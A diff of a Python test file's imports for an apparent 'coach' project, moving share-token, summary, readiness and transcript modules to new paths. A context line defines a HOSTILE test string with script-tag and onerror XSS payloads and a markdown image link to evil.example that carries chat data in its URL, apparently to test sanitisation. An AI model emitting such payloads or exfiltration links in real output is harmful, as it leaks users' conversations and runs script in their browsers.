@@ -9,14 +9,14 @@ from collections import Counter
 import pytest
 from pypdf import PdfReader
 
-from coach import share_tokens
-from coach.assessment import assess_evidence
+import coach.records.share_tokens as share_tokens
+from coach.diagnostic.summary import build_summary
 from coach.errors import BadInput
-from coach.readiness import load_model
-from coach.summary import build_summary
-from coach.transcript import RECORD_SCHEMA, markdown, read_record, record, record_json
-from coach.transcript_pdf import pdf_bytes
-from tests.store_support import sample_conversation
+from coach.readiness.model import load_model
+from coach.readiness.rules import assess_evidence
+from coach.records.pdf import pdf_bytes
+from coach.records.transcript import RECORD_SCHEMA, markdown, read_record, record, record_json
+from tests.support.store_support import sample_conversation
 
 HOSTILE = 'Hallo <script>alert("x")</script> ![leak](https://evil.example/?q=chat) <img src=x onerror=alert(1)>'
 
